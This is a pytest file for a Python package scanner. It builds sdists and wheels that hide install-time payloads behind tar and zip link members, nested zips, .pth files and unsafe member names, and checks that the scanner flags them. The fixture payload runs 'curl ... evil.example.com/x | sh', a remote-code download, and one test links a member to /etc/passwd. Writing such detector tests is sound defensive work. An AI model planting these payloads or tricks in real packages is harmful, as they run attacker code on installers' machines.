"""What pip unpacks from an sdist or a wheel is what package mode reads (caplet._scan._scanner).

attack8: a member that is a link (a hard or symbolic link inside a tar, a zip entry
marked as a link) and a zip inside the archive (``deps.zip``, an ``.egg``, a vendored
wheel, a ``.bin`` that is a zip) ran a payload pip unpacks or Python imports, while the
scan reported only a warning about the member's kind. Each test failed on main.
"""

from __future__ import annotations

import io
import stat
import tarfile
import zipfile
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_tree

_PAYLOAD = b"import os\nos.system('curl -s https://evil.example.com/x | sh')\n"
_SETUP = b"from setuptools import setup\nsetup(name='pkg', version='1.0')\n"
_IMPORTS_ZIP = (
    b"import sys\nsys.path.insert(0, {name!r})\nimport helper\n"
    b"from setuptools import setup\nsetup(name='pkg', version='1.0')\n"
)


def _danger(target: Path, mode: ScanMode = ScanMode.PACKAGE) -> set[tuple[str, str]]:
    report = scan_tree(target, mode=mode)
    return {(f.rule_id, f.file) for f in report.findings if f.severity is Severity.DANGER}


def _member(
    name: str, data: bytes = b"", link: dict[str, object] | None = None
) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(f"pkg-1.0/{name}")
    info.size = len(data)
    for key, value in (link or {}).items():
        setattr(info, key, value)
    return info, data


def _symlink(name: str, target: str) -> tuple[tarfile.TarInfo, bytes]:
    return _member(name, link={"type": tarfile.SYMTYPE, "linkname": target})


def _sdist(path: Path, members: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for info, data in members:
            archive.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return path


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "link",
    [
        {"type": tarfile.LNKTYPE, "linkname": "pkg-1.0/README.txt"},  # a hard link
        {"type": tarfile.SYMTYPE, "linkname": "README.txt"},  # a symbolic one
        {"type": tarfile.SYMTYPE, "linkname": "docs/../README.txt"},
    ],
)
def test_a_setup_py_linked_to_another_member_is_read_as_that_member(
    tmp_path: Path, link: dict[str, object]
) -> None:
    # pip extracts a link inside the tree (tarfile's data filter keeps it) and runs
    # setup.py, so README's bytes run; they were never read as code
    members = [_member("README.txt", _PAYLOAD), _member("setup.py", link=link)]
    found = _danger(_sdist(tmp_path / "pkg-1.0.tar.gz", members))
    assert ("CPL-THR-015", "setup.py") in found


def test_a_module_linked_through_another_link_is_read(tmp_path: Path) -> None:
    members = [
        _member("notes.txt", _PAYLOAD),
        _symlink("data.txt", "notes.txt"),
        _member("setup.py", _SETUP),
        _symlink("pkg/__init__.py", "../data.txt"),
    ]
    found = _danger(_sdist(tmp_path / "pkg-1.0.tar.gz", members))
    assert found == {("CPL-THR-015", "pkg/__init__.py")}


def test_a_link_out_of_the_archive_or_to_data_reads_nothing(tmp_path: Path) -> None:
    members = [
        _member("setup.py", _SETUP),
        _symlink("pkg/__init__.py", "/etc/passwd"),
        _symlink("README", "README.txt"),
        _member("README.txt", _PAYLOAD),
    ]
    assert _danger(_sdist(tmp_path / "pkg-1.0.tar.gz", members)) == set()


def test_a_zip_entry_marked_as_a_link_is_read_as_the_file_pip_writes(tmp_path: Path) -> None:
    info = zipfile.ZipInfo("pkg-1.0/setup.py")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    path = tmp_path / "pkg-1.0.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(info, _PAYLOAD)
        archive.writestr("pkg-1.0/PKG-INFO", b"Name: pkg\n")
    assert ("CPL-THR-015", "setup.py") in _danger(path)


@pytest.mark.parametrize("name", ["deps.zip", "deps.egg", "vendor/helper.whl", "data.bin"])
def test_a_zip_inside_an_sdist_is_read(tmp_path: Path, name: str) -> None:
    # setup.py puts it on sys.path and imports from it (zipimport): its modules run
    inner = _zip({"helper.py": _PAYLOAD})
    setup = _IMPORTS_ZIP.replace(b"{name!r}", repr(name).encode())
    members = [_member(name, inner), _member("setup.py", setup)]
    found = _danger(_sdist(tmp_path / "pkg-1.0.tar.gz", members))
    assert ("CPL-THR-015", f"{name}/helper.py") in found


def test_a_zip_inside_a_wheel_and_on_disk_is_read(tmp_path: Path) -> None:
    inner = _zip({"helper.py": _PAYLOAD})
    wheel = tmp_path / "pkg-1.0-py3-none-any.whl"
    wheel.write_bytes(_zip({"pkg/__init__.py": b"", "pkg/deps.zip": inner}))
    assert _danger(wheel) == {("CPL-THR-015", "pkg/deps.zip/helper.py")}
    tree = tmp_path / "tree"
    (tree / "pkg").mkdir(parents=True)
    (tree / "pkg" / "deps.pyz").write_bytes(inner)
    assert _danger(tree) == {("CPL-THR-015", "pkg/deps.pyz/helper.py")}


def test_a_zip_inside_a_zip_inside_an_sdist_is_reported_not_opened(tmp_path: Path) -> None:
    inner = _zip({"helper.py": _PAYLOAD})
    outer = _zip({"inner.zip": inner, "ok.py": b"x = 1\n"})
    path = _sdist(
        tmp_path / "pkg-1.0.tar.gz", [_member("setup.py", _SETUP), _member("d.zip", outer)]
    )
    report = scan_tree(path, mode=ScanMode.PACKAGE)
    assert {f.file for f in report.findings} >= {"d.zip", "d.zip/inner.zip"}
    assert not any(f.severity is Severity.DANGER for f in report.findings)


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        # site(7) runs every .pth of site-packages whatever its name holds
        (
            "evil\x1b.pth",
            b"import os; os.system('curl -s https://evil.example.com/x | sh')\n",
            "CPL-THR-013",
        ),
        # Windows extracts it as pkg/__init__.py
        ("pkg\\__init__.py", _PAYLOAD, "CPL-THR-015"),
    ],
)
def test_a_member_of_an_unsafe_name_is_read_as_installers_extract_it(
    tmp_path: Path, name: str, data: bytes, rule: str
) -> None:
    wheel = tmp_path / "pkg-1.0-py3-none-any.whl"
    wheel.write_bytes(_zip({name: data, "pkg-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\n"}))
    assert rule in {r for r, _ in _danger(wheel)}


def test_a_trick_inside_a_nested_zip_is_no_trick_of_the_package(tmp_path: Path) -> None:
    # nothing extracts a zip inside the package at install: its '..' member is reported
    # as part of a nested archive, a warning (distlib's test fixtures)
    inner = _zip({"../escape.txt": b"x", "ok.py": b"x = 1\n"})
    path = _sdist(
        tmp_path / "pkg-1.0.tar.gz", [_member("setup.py", _SETUP), _member("t/bad.zip", inner)]
    )
    report = scan_tree(path, mode=ScanMode.PACKAGE)
    assert ("CPL-ARC-004", "t/bad.zip/../escape.txt") in {
        (f.rule_id, f.file) for f in report.findings
    }
    assert not any(f.severity is Severity.DANGER for f in report.findings)
